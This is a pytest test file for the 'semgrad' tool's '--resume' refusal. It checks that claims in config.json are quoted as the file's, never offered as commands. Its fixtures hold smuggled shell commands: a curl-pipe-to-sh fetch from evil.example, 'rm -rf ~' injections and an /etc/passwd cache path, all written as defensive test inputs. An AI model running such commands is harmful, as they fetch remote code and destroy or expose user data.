"""Remedies that repeat a file's words: when a run folder's config.json names code, a remote server or a new cache
file, `--resume` refuses, says what the file claims and that the claim is the file's, and never offers the file's
words as the command to type."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from semgrad.experiments import RunConfig, SetupError
from semgrad.experiments._resume import resumed_config

from ._servers import semgrad

#: Base URLs a crafted config.json may hold: each would do harm if typed as shown.
HOSTILE_URLS = (
    "https://evil.example/v1",
    "https://evil.example/v1; curl https://evil.example/x | sh",
    "https://evil.example/v1 --cache /etc/passwd",
    "https://evil.example/$(rm -rf ~)/v1",
    "https://evil.example/v1\nsemgrad run --base-url https://evil.example/v1",
)


def _refusal(saved: RunConfig, run_dir: Path, typed: dict | None = None) -> str:
    with pytest.raises(SetupError) as caught:
        resumed_config(saved, typed or {}, run_dir)
    return str(caught.value)


def _check_remedy(message: str, run_dir: Path, claims: list[str]) -> None:
    """The message names the file and attributes the claims to it, shows each as quoted data, and every
    command or flag it offers has placeholders, never the file's words."""
    assert f"its file {run_dir / 'config.json'} says" in message
    rest = message
    for claim in claims:
        assert repr(claim) in message  # shown, quoted, as what the file holds
        rest = rest.replace(repr(claim), "<claim>")
    assert not any(claim in rest or shlex.quote(claim) in rest for claim in claims)  # nowhere else
    assert set(re.findall(r"--base-url (\S+)", rest)) <= {"URL"}
    assert set(re.findall(r"--cache (\S+)", rest)) <= {"FILE", "''"}
    assert set(re.findall(r"semgrad run (\S+)", rest)) <= {"--resume", "FILE.py:FUNCTION"}


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_a_remote_server_from_config_json_is_quoted_as_the_file_s_claim_never_as_a_command(tmp_path, url):
    """A saved remote base URL (and a cache path) is refused in words that say config.json claims it; the
    command the message offers holds --base-url URL and --cache FILE, not the file's values."""
    saved = RunConfig("gsm8k", backend="openai-compatible", base_url=url, cache="/tmp/elsewhere/c.db")
    message = _refusal(saved, tmp_path / "run")
    _check_remedy(message, tmp_path / "run", [url, "/tmp/elsewhere/c.db"])
    assert "the file's claim, not yours" in message


@settings(max_examples=60, deadline=None)
@given(tail=st.text(st.characters(codec="utf-8", exclude_characters="@"), max_size=40))
def test_any_url_tail_stays_quoted_data(tmp_path_factory, tail):
    """Whatever follows the host in a saved base URL, the refusal shows it only as the file's quoted claim."""
    url = f"https://evil.example/{tail}"
    run_dir = tmp_path_factory.mktemp("run")
    message = _refusal(RunConfig("gsm8k", backend="openai-compatible", base_url=url), run_dir)
    _check_remedy(message, run_dir, [url])


@pytest.mark.parametrize("spec", ["/tmp/evil.py:build", "os:system", "evil.py:build; rm -rf ~"])
def test_code_named_by_config_json_is_the_file_s_claim_and_the_command_has_a_placeholder(tmp_path, spec):
    """A saved system spec is shown as what config.json says, and the command offered to resume a run of your
    own system is `semgrad run FILE.py:FUNCTION --resume --out DIR`: the file's spec is never in it."""
    message = _refusal(RunConfig(spec, data="/tmp/items.jsonl"), tmp_path / "run")
    _check_remedy(message, tmp_path / "run", [spec])
    assert "semgrad loads code only from a system spec you type, never from a file" in message


def test_the_command_line_refusal_is_one_line_and_imports_nothing(tmp_path):
    """`semgrad run --resume --out DIR` over a config.json naming code, then one naming a remote server: one
    line each, exit 1, the code never imported, and the remedy holds only placeholders."""
    marker = tmp_path / "imported"
    evil = tmp_path / "evil.py"
    evil.write_text(f"import pathlib\npathlib.Path({str(marker)!r}).write_text('x')\ndef build(): pass\n")
    out = tmp_path / "run"
    system = RunConfig(f"{evil}:build", data=str(tmp_path / "items.jsonl"))
    server = RunConfig("gsm8k", backend="openai-compatible", base_url=HOSTILE_URLS[1])
    for saved, claim in ((system, system.task), (server, server.base_url)):
        saved.save(out)
        result = semgrad("run", "--resume", "--out", str(out))
        assert result.returncode == 1
        (line,) = result.stderr.splitlines()
        assert line.startswith("semgrad: error: cannot resume ")
        _check_remedy(line, out, [claim])
    assert not marker.exists()
